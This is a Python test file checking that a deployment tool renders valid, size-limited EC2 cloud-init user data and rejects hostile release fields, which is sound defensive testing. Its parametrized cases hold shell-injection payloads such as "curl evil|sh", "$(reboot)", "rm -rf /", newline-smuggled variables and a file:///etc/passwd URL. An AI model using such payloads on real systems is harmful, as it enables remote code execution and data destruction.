"""The user data a server group carries: valid cloud-config, small, and not hijackable."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from rollout.deploy.health_settings import agent_health_seconds
from rollout.ledger.codec import from_item, to_item
from rollout.ledger.releases import release_item, release_of
from rollout.model import Release
from rollout.userdata import (
    USER_DATA_LIMIT,
    UserDataContext,
    UserDataError,
    decode_simulate,
    encode_simulate,
    parse_release_env,
    render_user_data,
)

SHA = "0123456789abcdef" * 4
CTX = UserDataContext(
    rollout_id="20261127-120000-ab12",
    region="us-east-1",
    instances_table="freshfleet-instances",
    ssm_path="/demo-web/prod",
)


def release(**changes: object) -> Release:
    fields: dict[str, object] = {
        "app": "demo-web",
        "version": "v2.1.0+build-7",
        "url": "https://releases.example.com/demo-web/v2.1.0.tar.gz?versionId=a_b-c",
        "sha256": SHA,
        "port": 8080,
        "health_path": "/health",
    }
    fields.update(changes)
    return Release(**fields)  # type: ignore[arg-type]


def cloud_init() -> str:
    found = shutil.which("cloud-init")
    if not found:
        if os.environ.get("CI") == "true":
            pytest.fail("CI needs Debian's cloud-init (./dev test installs it)")
        pytest.skip("cloud-init is not installed")
    return found


@pytest.mark.parametrize(
    "the_release",
    [
        release(),
        release(url="s3://freshfleet-releases/demo-web/v2.tar.gz"),
        release(url="http://127.0.0.1:4600/releases/demo-web/v1.tar.gz", version="v1"),
    ],
    ids=["https", "s3", "loopback-http"],
)
def test_rendered_user_data_is_valid_cloud_config(the_release: Release, tmp_path: Path) -> None:
    text = render_user_data(the_release, CTX)
    path = tmp_path / "user-data"
    path.write_text(text)
    result = subprocess.run(
        [cloud_init(), "schema", "--config-file", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Valid" in result.stdout
    assert len(text.encode()) <= USER_DATA_LIMIT


def test_the_env_file_reads_back_exactly() -> None:
    simulate = encode_simulate({"fail": "build", "crash_after": 10})
    ctx = UserDataContext(rollout_id="20261127-120000-ab12", region="eu-west-1", simulate=simulate)
    env = parse_release_env(render_user_data(release(), ctx))
    assert env == {
        "FRESHFLEET_APP": "demo-web",
        "FRESHFLEET_VERSION": "v2.1.0+build-7",
        "FRESHFLEET_ROLLOUT": "20261127-120000-ab12",
        "RELEASE_URL": "https://releases.example.com/demo-web/v2.1.0.tar.gz?versionId=a_b-c",
        "RELEASE_SHA256": SHA,
        "APP_PORT": "8080",
        "HEALTH_PATH": "/health",
        "AWS_REGION": "eu-west-1",
        "FRESHFLEET_SIMULATE": simulate,
    }
    assert decode_simulate(env["FRESHFLEET_SIMULATE"]) == {"crash_after": "10", "fail": "build"}


def test_the_agents_health_deadline_rides_in_the_env_file_below_the_gate_deadline() -> None:
    derived = agent_health_seconds(None, 120.0)  # the demo's gate deadline
    assert 0 < derived < 120.0
    assert agent_health_seconds(45.0, 120.0) == 45.0  # the release's own wins
    ctx = UserDataContext(CTX.rollout_id, "us-east-1", health_timeout_seconds=derived)
    env = parse_release_env(render_user_data(release(), ctx))
    assert env["FRESHFLEET_HEALTH_TIMEOUT"] == f"{derived:g}"
    assert "FRESHFLEET_HEALTH_TIMEOUT" not in parse_release_env(render_user_data(release(), CTX))
    with pytest.raises(UserDataError, match="health timeout"):
        render_user_data(release(health_timeout_seconds=0.0), CTX)


def test_a_releases_health_timeout_survives_the_releases_table() -> None:
    stored = from_item(to_item(release_item(release(health_timeout_seconds=45.5))))
    assert release_of(stored).health_timeout_seconds == 45.5
    assert release_of(from_item(to_item(release_item(release())))).health_timeout_seconds is None


def test_foreign_user_data_is_not_ours() -> None:
    assert parse_release_env("#!/bin/bash\necho hello\n") == {}
    assert parse_release_env("") == {}


@pytest.mark.parametrize(
    "hostile",
    [
        {"version": "v1'; curl evil|sh; '"},
        {"version": "v1;reboot"},
        {"version": "$(reboot)"},
        {"version": "v1\nRELEASE_URL=https://evil.example.com/x.tar.gz"},
        {"version": "v1 v2"},
        {"version": "v1\n"},
        {"version": "`id`"},
        {"url": "https://example.com/r.tar.gz'; rm -rf /"},
        {"url": "https://example.com/$(id).tar.gz"},
        {"url": "https://example.com/r.tar.gz\nFRESHFLEET_APP=other"},
        {"url": "https://example.com/a b.tar.gz"},
        {"url": "https://example.com/v1.tar.gz\n"},
        {"url": "https://example.com/r.tar.gz;reboot"},
        {"url": 'https://example.com/"quoted".tar.gz'},
        {"url": "http://releases.example.com/v1.tar.gz"},
        {"url": "ftp://example.com/v1.tar.gz"},
        {"url": "file:///etc/passwd"},
        {"sha256": "not-a-sha"},
        {"sha256": SHA.upper()},
        {"health_path": "/health; reboot"},
        {"health_path": "health"},
        {"app": "Demo_Web"},
        {"port": 70000},
    ],
    ids=lambda h: next(iter(h)),
)
def test_hostile_values_are_refused_with_the_value_named(hostile: dict[str, object]) -> None:
    with pytest.raises(UserDataError) as caught:
        render_user_data(release(**hostile), CTX)
    field_name = next(iter(hostile))
    words = {"url": "URL", "sha256": "sha256", "health_path": "health path", "port": "port"}
    assert words.get(field_name, field_name) in str(caught.value)


def test_insecure_http_needs_the_flag() -> None:
    plain = release(url="http://releases.example.com/v1.tar.gz")
    ctx = UserDataContext(rollout_id=CTX.rollout_id, region="us-east-1", allow_insecure_url=True)
    assert parse_release_env(render_user_data(plain, ctx))["RELEASE_URL"] == plain.url


def test_user_data_over_16_kb_is_refused() -> None:
    huge = release(url="https://example.com/" + "a" * USER_DATA_LIMIT + ".tar.gz")
    with pytest.raises(UserDataError, match="over EC2's 16384-byte limit"):
        render_user_data(huge, CTX)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1.evil.example/v1.tar.gz",  # a name, not a loopback address
        "http://127.evil.example/v1.tar.gz",
        "http://localhost.evil.example/v1.tar.gz",
        "http://[::ffff:8.8.8.8]/v1.tar.gz",
    ],
)
def test_only_a_loopback_address_passes_for_plain_http(url: str) -> None:
    with pytest.raises(UserDataError, match="scheme http:// is not allowed"):
        render_user_data(release(url=url), CTX)


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:8000/v1.tar.gz", "http://127.8.9.10/v1", "http://[::1]:80/v1"]
)
def test_plain_http_to_loopback_passes(url: str) -> None:
    assert parse_release_env(render_user_data(release(url=url), CTX))["RELEASE_URL"] == url


@pytest.mark.parametrize(
    "url",
    [
        "https://deploy:s3cret@releases.example.com/v1.tar.gz",
        "https://s3cret@releases.example.com/v1.tar.gz",
        "s3://deploy:s3cret@bucket/v1.tar.gz",
    ],
)
def test_a_url_with_credentials_is_refused_without_showing_them(url: str) -> None:
    with pytest.raises(UserDataError, match="carries credentials") as caught:
        render_user_data(release(url=url), CTX)
    assert "s3cret" not in str(caught.value)
